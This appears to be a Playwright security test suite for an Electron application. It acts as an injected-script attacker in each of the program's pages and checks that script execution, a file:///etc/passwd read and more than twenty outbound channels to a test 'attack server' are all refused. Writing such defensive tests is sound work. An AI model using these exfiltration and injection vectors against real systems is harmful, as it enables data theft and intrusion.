import { type ElectronApplication, expect, type Page, test } from '@playwright/test';
import { type AttackServer, attackServer } from './attack-server';
import { hallWindow } from './hall-window';
import { signInByKeyboard } from './keyboard';
import { CLERK, launch, type RunningProgram } from './program';

/*
 * Pages of ours as an attacker would use them who got a script into one. Each attack runs in every page that the program has:
 * the desk's, the hall screen's and the hidden one that owns the database.
 */
let program: RunningProgram;
let server: AttackServer;
let pages: [name: string, page: Page][];

test.beforeAll(async () => {
  server = await attackServer();
  program = await launch({ seed: 'demo', args: ['--use-fake-device-for-media-stream'] });
  await signInByKeyboard(program.page, CLERK);
  await program.page.keyboard.press('Control+Alt+D');
  const hall = await hallWindow(program.app);
  const storage = program.app.windows().find((page) => page.url().startsWith('app://storage/'));
  if (!storage) throw new Error('the storage host has no page');
  pages = [
    ['desk', program.page],
    ['hall', hall],
    ['storage', storage],
  ];
});
test.afterAll(async () => {
  await program.close();
  server.close();
});

/** A script's own turn: what a test evaluates may use `eval`, what that leaves behind for later may not. */
test('no page makes a script out of text', async () => {
  for (const [name, page] of pages) {
    const ran = await page.evaluate(async () => {
      const marks = window as unknown as { inlineRan?: boolean; attributeRan?: boolean };
      const results: Record<string, string> = {};
      const tried = (what: string, work: () => unknown): void => {
        try {
          work();
          results[what] = 'ran';
        } catch (error) {
          results[what] = error instanceof Error ? error.name : 'error';
        }
      };
      await new Promise<void>((resolve) =>
        setTimeout(() => {
          // biome-ignore lint/security/noGlobalEval: the attack
          tried('eval', () => window.eval('1 + 1'));
          tried('new Function', () => new Function('return 1')());
          resolve();
        }),
      );
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true';
      document.head.append(script);
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.attributeRan = true');
      image.src = 'data:image/png;base64,AAAA';
      const failed = new Promise((resolve) => image.addEventListener('error', resolve));
      document.body.append(image);
      await failed;
      const blob = document.createElement('script');
      blob.src = URL.createObjectURL(new Blob(['window.blobRan = true'], { type: 'text/javascript' }));
      results.blob = await new Promise<string>((resolve) => {
        blob.onload = () => resolve('ran');
        blob.onerror = () => resolve('refused');
        document.head.append(blob);
      });
      results.inline = marks.inlineRan ? 'ran' : 'refused';
      results.attribute = marks.attributeRan ? 'ran' : 'refused';
      for (const element of [script, image, blob]) element.remove();
      return results;
    });
    expect(ran, name).toEqual({
      eval: 'EvalError',
      'new Function': 'EvalError',
      blob: 'refused',
      inline: 'refused',
      attribute: 'refused',
    });
  }
});

test('no page reaches another machine by any of its ways', async () => {
  for (const [name, page] of pages) {
    const ends = await page.evaluate(waysOut, server.host);
    expect(
      Object.entries(ends).filter(([, end]) => end !== 'refused'),
      name,
    ).toEqual([]);
    expect(Object.keys(ends).length, name).toBeGreaterThan(15);
  }
  expect(await counted(program.app, server), 'only the control arrived').toEqual(['tcp', 'GET /control', 'udp']);
});

/** From the program itself, after all attacks: what was sent before it has arrived by now, and this server does count. */
async function counted(app: ElectronApplication, { host, port, seen }: AttackServer): Promise<string[]> {
  await app.evaluate(
    async ({ session }, { url, udpPort }) => {
      await (await session.fromPartition('control', { cache: false }).fetch(url)).text();
      const { createSocket } = process.getBuiltinModule('node:dgram');
      const socket = createSocket('udp4');
      await new Promise<void>((resolve) => socket.send('control', udpPort, '127.0.0.1', () => resolve()));
      socket.close();
    },
    { url: `http://${host}/control`, udpPort: port },
  );
  await expect.poll(() => seen.at(-1)).toBe('udp');
  return seen;
}

/** Each way once, and how it ended. Runs in the page. */
async function waysOut(host: string): Promise<Record<string, string>> {
  const url = (path: string): string => `http://${host}/${path}`;
  const byEvent = (element: HTMLElement, into: HTMLElement = document.body): Promise<string> =>
    new Promise((resolve) => {
      element.addEventListener('load', () => resolve('loaded'));
      element.addEventListener('loadeddata', () => resolve('loaded'));
      element.addEventListener('error', () => resolve('refused'));
      into.append(element);
    });
  const make = <T extends HTMLElement>(tag: string, attributes: Record<string, string>): T => {
    const element = document.createElement(tag) as T;
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    return element;
  };
  const link = (attributes: Record<string, string>): HTMLElement => make('link', attributes);
  const settled = (work: Promise<unknown>): Promise<string> =>
    work.then(
      () => 'reached',
      () => 'refused',
    );
  const socket = (): Promise<string> =>
    new Promise((resolve) => {
      const ws = new WebSocket(`ws://${host}/ws`);
      ws.onopen = () => resolve('reached');
      ws.onerror = () => resolve('refused');
    });
  /** Candidates are sought until there are none left: every server that could be asked was asked by then. */
  const peer = async (server: string): Promise<string> => {
    let connection: RTCPeerConnection;
    try {
      connection = new RTCPeerConnection({ iceServers: [{ urls: server, username: 'a', credential: 'b' }] });
    } catch {
      return 'refused';
    }
    const found: string[] = [];
    connection.createDataChannel('out');
    const done = new Promise<void>((resolve) => {
      connection.onicecandidate = ({ candidate }) => (candidate ? found.push(candidate.candidate) : resolve());
    });
    await connection.setLocalDescription(await connection.createOffer());
    await done;
    connection.close();
    return found.filter(Boolean).length === 0 ? 'refused' : found.join(' ');
  };
  const frame = async (): Promise<string> => {
    const element = make<HTMLIFrameElement>('iframe', { src: url('frame') });
    const loaded = new Promise((resolve) => element.addEventListener('load', resolve));
    document.body.append(element);
    await loaded;
    // What stands there now is Chromium's own page of a refusal, which is of another origin.
    try {
      return element.contentDocument?.body.textContent ? 'reached' : 'refused';
    } catch {
      return 'refused';
    } finally {
      element.remove();
    }
  };
  const form = make<HTMLFormElement>('form', { action: url('form'), method: 'post' });
  document.body.append(form);
  const ping = make<HTMLAnchorElement>('a', { href: '#', ping: url('ping') });
  document.body.append(ping);
  const styled = make('div', {});
  styled.style.backgroundImage = `url(${url('background')})`;
  document.body.append(styled);
  form.submit();
  ping.click();
  for (const rel of ['preconnect', 'dns-prefetch']) document.head.append(link({ rel, href: url(rel) }));
  return {
    fetch: await settled(fetch(url('fetch'))),
    'fetch without an answer': await settled(fetch(url('no-cors'), { mode: 'no-cors' })),
    file: await settled(fetch('file:///etc/passwd')),
    xhr: await new Promise<string>((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve('reached');
      request.onerror = () => resolve('refused');
      request.open('GET', url('xhr'));
      request.send();
    }),
    beacon: await settled(Promise.resolve(navigator.sendBeacon(url('beacon'), 'x')).then(() => Promise.reject(new Error('sent blindly')))),
    websocket: await socket(),
    events: await new Promise<string>((resolve) => {
      const source = new EventSource(url('events'));
      source.onopen = () => resolve('reached');
      source.onerror = () => {
        source.close();
        resolve('refused');
      };
    }),
    image: await byEvent(make('img', { src: url('image') })),
    'image of a set': await byEvent(make('img', { srcset: `${url('set')} 1x` })),
    video: await byEvent(make('video', { src: url('video') })),
    script: await byEvent(make('script', { src: url('script') })),
    module: await byEvent(make('script', { src: url('module'), type: 'module' })),
    import: await settled(import(url('import'))),
    style: await byEvent(link({ rel: 'stylesheet', href: url('style') }), document.head),
    preload: await byEvent(link({ rel: 'preload', as: 'image', href: url('preload') }), document.head),
    modulepreload: await byEvent(link({ rel: 'modulepreload', href: url('modulepreload') }), document.head),
    prefetch: await byEvent(link({ rel: 'prefetch', href: url('prefetch') }), document.head),
    font: await settled(new FontFace('outside', `url(${url('font')})`).load()),
    object: await byEvent(make('object', { data: url('object') })),
    frame: await frame(),
    worker: await new Promise<string>((resolve) => {
      try {
        const worker = new Worker(url('worker'));
        worker.onerror = () => resolve('refused');
        worker.onmessage = () => resolve('reached');
      } catch {
        resolve('refused');
      }
    }),
    'service worker': await settled(Promise.resolve().then(() => navigator.serviceWorker.register('./sw.js'))),
    transport: await settled(Promise.resolve().then(() => new WebTransport(`https://${host}/transport`).ready)),
    'peer over udp': await peer(`stun:${host}`),
    'peer over tcp': await peer(`turn:${host}?transport=tcp`),
  };
}
